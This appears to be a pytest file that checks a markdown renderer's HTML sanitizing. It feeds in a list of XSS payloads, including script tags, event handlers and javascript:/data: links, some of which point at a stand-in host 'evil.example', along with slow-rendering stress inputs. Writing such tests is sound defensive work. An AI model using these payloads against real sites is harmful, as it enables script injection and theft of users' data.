"""Fifty hostile results, and what becomes of them: text, never an act.

What comes out is read by a parser of HTML, not searched for words: a word such as `onerror` may
well be shown, as text.
"""

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from openclaw_jobs.web.markdown import MAX_CHARS, MAX_MARKERS, render_markdown

TAGS = {
    "a", "blockquote", "br", "code", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p",
    "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {"class", "href", "rel", "start", "tabindex", "target", "title"}
VOID = {"br", "hr"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>1</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=1>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=csrf_token></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "</div></main></body></html><h1>Signed out</h1>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/phish)",
    "[x](/sign-out)",
    "[x](\\/evil.example)",
    "[x](https:evil.example)",
    "[x](blob:https://evil.example/1)",
    '[x](https://evil.example "onmouseover=alert(1)")',
    "[x](https://evil.example '\"><script>alert(1)</script>')",
    "<javascript:alert(1)>",
    '<https://evil.example/"onmouseover=alert(1)>',
    "![x](https://evil.example/track.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](https://evil.example/a.png "\\" onload=\\"alert(1)")',
    '![" onerror="alert(1)](https://evil.example/a.png)',
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x][y]\n\n[y]: https://evil.example/pixel.gif",
    '```"><script>alert(1)</script>\ncode\n```',
    "```html\n<script>alert(1)</script></code></pre></div>\n```",
    "```js onload=alert(1)\nalert(`</script>`)\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <script>alert(1)</script> | a |\n|:-:|--:|\n| <img src=x onerror=1> | [x](javascript:1) |",
    "# <script>alert(1)</script>",
    "> <iframe src=//evil.example>",
    "1. <svg/onload=alert(1)>",
    "9999999999. x\n\n<ol start='-1\" onclick=1'>",
    "**<b onmouseover=alert(1)>**",
    "{{ 7*7 }} {% import os %} ${7*7} #{7*7}",
    "\x00<script>\x00alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "<a href=https://ok.example target=_top class=btn id=main style=position:fixed>x</a>",
    "<p class='skip' id='csrf-token' name='csrf-token'>x</p>",
]


class Reader(HTMLParser):
    """Reads what came out as a browser would, and keeps what matters."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.links: list[dict[str, str | None]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        named = dict(attrs)
        assert set(named) <= ATTRIBUTES, named
        assert len(named) == len(attrs), "an attribute twice"
        if tag == "a":
            self.links.append(named)
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open, "it leaves its box"
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def read(text: str) -> Reader:
    reader = Reader()
    reader.feed(str(render_markdown(text)))
    reader.close()
    assert not reader.open, "it leaves something open"
    for link in reader.links:
        assert urlsplit(link["href"] or "").scheme in {"http", "https", "mailto"}, link
        assert link["rel"] == "noopener nofollow ugc"
        assert link["target"] == "_blank"
        assert link.get("class") in {None, "remote"}
    return reader


def test_there_are_fifty() -> None:
    assert len(set(HOSTILE)) >= 50


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_result_is_only_text(text: str) -> None:
    read(text)
    read(f"before\n\n{text}\n\nafter")
    read(f"- {text}\n  > {text}\n\n```\n{text}\n```")


def test_a_picture_is_a_link_until_it_is_clicked() -> None:
    reader = read("![a cat](https://pics.example/cat.png)")
    assert [link["href"] for link in reader.links] == ["https://pics.example/cat.png"]
    assert reader.text.strip() == "Picture: a cat (on pics.example)"


def test_what_is_meant_is_kept() -> None:
    html = str(
        render_markdown(
            '# Title\n\n**bold** *it* ~~old~~ `code` [link](https://ok.example/a?b=c&d=e "t")\n\n'
            "3. three\n4. four\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```py\nprint('x')\n```\n"
            "<me@ok.example>"
        )
    )
    for part in (
        "<h3>Title</h3>", "<strong>bold</strong>", "<em>it</em>", "<s>old</s>",
        "<code>code</code>", 'href="https://ok.example/a?b=c&amp;d=e"', 'title="t"',
        '<ol start="3">', '<td class="right">2</td>', '<span class="nb">print</span>',
        "<span>Python</span>", 'href="mailto:me@ok.example"',
    ):  # fmt: skip
        assert part in html, part


def test_code_comes_out_as_it_went_in() -> None:
    code = "def f(x):\n    return '<b>&amp;\"' # \N{GRINNING FACE}\n\n\n  \tdone\n"
    for language in ("py", "", "nonsense", "js", "html", "c++", "PYTHON"):
        reader = Reader()
        reader.feed(str(render_markdown(f"```{language}\n{code}```")))
        assert code in reader.text, language


SLOW = {
    "stars": "*" * MAX_MARKERS, "brackets": "[" * MAX_MARKERS, "links": "[a](" * (MAX_MARKERS // 2),
    "emphasis": "*a_ " * 3900, "quotes": "> " * 3000 + "x", "pictures": "![[" * 2600,
    "tags": "<a " * 7900, "lists": "".join("  " * i + "- x\n" for i in range(250)),
    "table": "|a|b|\n|-|-|\n" + "|x|y|\n" * 2600, "entities": "&a;" * 7900,
    "references": "".join(f"[a{i}]: https://x.example\n" for i in range(3900)),
    "python": "```py\n" + '"' * 29000 + "\n```", "html": "```html\n" + "<a b='" * 7000 + "\n```",
    "many blocks": "```js\nlet a = /x/\n```\n" * 500, "one line": "x" * (MAX_CHARS - 1),
    "too long": "# x\n" * (MAX_CHARS // 4 + 1), "too many": "*a*" * MAX_MARKERS,
}  # fmt: skip


@pytest.mark.parametrize("name", SLOW)
def test_no_text_takes_long(name: str) -> None:
    """A second by the processor's time, on any machine; most take a tenth here."""
    began = time.process_time()
    made = str(render_markdown(SLOW[name]))
    assert time.process_time() - began < 1.0
    assert len(made) < 20 * len(SLOW[name]) + 1000
